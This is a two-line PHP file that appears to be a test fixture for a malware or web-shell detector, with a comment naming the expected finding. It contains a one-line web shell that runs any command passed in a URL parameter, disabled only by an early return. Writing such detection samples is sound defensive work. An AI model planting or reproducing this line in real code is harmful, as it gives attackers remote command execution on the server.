<?php return; // want: malicious webshell php.command.request
echo `$_GET[c]`;
